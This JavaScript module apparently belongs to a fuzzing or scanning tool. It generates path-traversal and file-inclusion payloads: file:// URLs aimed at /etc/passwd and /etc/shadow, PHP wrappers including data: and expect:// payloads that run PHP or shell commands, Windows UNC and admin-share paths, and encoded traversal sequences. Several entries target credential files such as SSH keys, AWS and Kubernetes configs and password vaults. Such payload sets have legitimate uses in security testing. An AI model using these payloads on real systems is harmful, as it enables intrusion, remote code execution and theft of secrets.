import { traversalGenerator as generator } from '../traversal-generator.js';

const HOST = ['10.0.0.5', 'files.example.net', 'localhost', '127.0.0.1'];

/** What only one platform, language or server understands. */
export const PLATFORM_GENERATORS = [
  generator({
    name: 'file-urls',
    context: 'fetch',
    posix: {
      start: [
        'file:///{unix}',
        'file://localhost/{unix}',
        'FILE:///{unix}',
        'file:/{unix}',
        'file:///{folder}/../{unix}',
        'file:///{process}',
        'file:{unix2}',
        'file:///%65tc/passwd',
        'file:///etc/./{unix3}',
      ],
      unix2: ['/etc/passwd', '//localhost/etc/hosts'],
      unix3: ['passwd', 'shadow', 'hosts'],
    },
    windows: { start: ['file:///C:/{dos}', 'file:///c|/{dos}', 'file://localhost/C:/{dos}'] },
  }),
  generator({
    name: 'wrappers',
    php: {
      start: [
        'php://filter/{filter}/resource={what}',
        'php://filter/read={filter2}/resource={what}',
        'PHP://FiLtEr/{filter}/resource={what}',
        'zip://{folder}/{word}.zip%23{word}',
        'zip://./{word}.jpg#{word}.php',
        'phar://{folder}/{word}.phar/{word}',
        'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
        'data:text/plain,<?php system(1)?>',
        'expect://id',
        'php://input',
        'compress.zlib://{what}',
        'glob:///{folder}/*',
        'jar:file:///{unix}!/',
        'netdoc:///{unix}',
        'classpath:{application}',
        'file:///{unix}',
        'ogg://{what}',
        'rar://{word}.rar#{word}',
      ],
      filter: [
        'convert.base64-encode',
        'string.rot13',
        'zlib.deflate/convert.base64-encode',
        'convert.iconv.utf-8.utf-16',
      ],
      filter2: [
        'convert.base64-encode',
        'string.toupper|string.rot13',
        'convert.iconv.UTF8.CSISO2022KR|convert.base64-encode',
      ],
      what: ['index.php', '../config.php', '/{unix}', '<../>*{depth}{unix}', 'wp-config.php', '{application}'],
    },
  }),
  generator({
    name: 'windows-names',
    context: 'resolve',
    windows: {
      start: [
        '\\\\{host}\\{share}\\{word}.txt',
        '\\\\?\\C:\\{dos}',
        '\\\\.\\C:\\{dos}',
        '//{host}/{share}/{word}.php',
        '\\\\{host}@80\\{share}\\{word}',
        '\\\\?\\UNC\\{host}\\{share}\\x',
        '\\\\localhost\\c$\\{dos}',
        '\\\\127.0.0.1\\C$\\{dos}',
        '\\\\?\\GLOBALROOT\\Device\\HarddiskVolume1\\{dos}',
        'C:..\\<..\\>*{depth}{dos}',
        '\\??\\C:\\{dos}',
      ],
      host: HOST,
      share: ['share', 'c$', 'ADMIN$', 'public', 'davwwwroot'],
    },
  }),
  generator({
    name: 'matrix-parameters',
    location: 'path',
    posix: {
      start: [
        '<..;/>*{depth}{unix}',
        '{folder}/<..;/>*{depth}{unix}',
        '<..;{word}={digit}/>*{depth}{unix}',
        '{folder};/<..;/>*{shallow}{application}',
        '<..;/>*{shallow}{application}',
        '<.;/..;/>*{depth}{unix}',
        '..;/<../>*{depth}{unix}',
        '<..%3b/>*{depth}{unix}',
      ],
      shallow: ['1', '2'],
    },
  }),
  generator({
    name: 'request-path',
    location: 'path',
    posix: {
      start: [
        '<..%2f>*{depth}{unix}',
        '<%2e%2e%2f>*{depth}{unix}',
        '{folder}/<..%2f>*{depth}{unix}',
        '<..%252f>*{depth}{unix}',
        '{folder}%2f<..%2f>*{depth}{unix}',
        '.%2f<..%2f>*{shallow}{application}',
        '%2f{unix}',
        '<../>*{depth}{unix}',
        '/<..//>*{depth}{unix}',
      ],
      shallow: ['1', '2'],
    },
    windows: {
      start: ['<..%5c>*{depth}{dos}', '<..%255c>*{depth}{dos}', '{folder}/<..%5c>*{depth}{dos}', '<..\\>*{depth}{dos}'],
    },
  }),
  generator({
    name: 'home-and-environment',
    php: {
      start: [
        '~/{home}',
        '~root/{home}',
        '$HOME/{home}',
        '%USERPROFILE%\\{win}',
        '%SYSTEMROOT%\\win.ini',
        '%WINDIR%\\System32\\drivers\\etc\\hosts',
        '$HOME/./{home}',
        '~app/<../>*{depth}{unix}',
        '$PWD/<../>*{depth}{unix}',
      ],
      home: ['.ssh/id_rsa', '.bash_history', '.aws/credentials', '.npmrc', '.netrc', '.kube/config'],
      win: ['Desktop\\{word}.kdbx', 'NTUSER.DAT', '.ssh\\id_rsa'],
    },
  }),
];
